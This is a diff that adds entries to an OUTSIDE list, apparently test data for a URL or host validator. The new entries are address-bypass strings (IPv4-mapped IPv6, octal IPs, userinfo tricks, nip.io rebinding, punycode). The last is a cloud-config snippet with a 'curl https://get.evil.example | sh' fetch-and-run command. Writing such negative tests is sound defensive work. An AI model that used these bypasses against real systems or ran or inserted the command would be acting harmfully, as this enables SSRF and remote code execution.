@@ -86,6 +86,18 @@ OUTSIDE = [
     "http://1.2.3.4.evil.com/",
     "ftp://user:pw@files.evil.org/",
     "http://[2001:db8::1]/",
+    "http://[::ffff:8.8.8.8]/",
+    "0:0:0:0:0:ffff:808:808",
+    "::8.8.8.8",
+    "10.64.0.0/9",
+    "//evil.example/path",
+    "EVIL.EXAMPLE.",
+    "xn--e1afmkfd.xn--p1ai",
+    "http://ev\til.example/",
+    "010.064.000.001",
+    "http://registry.eu-lu-1.sov.internal:443@evil.example/",
+    "10.64.0.1.nip.io",
+    "#cloud-config\nruncmd:\n  - curl https://get.evil.example | sh\n",
 ]
 
 
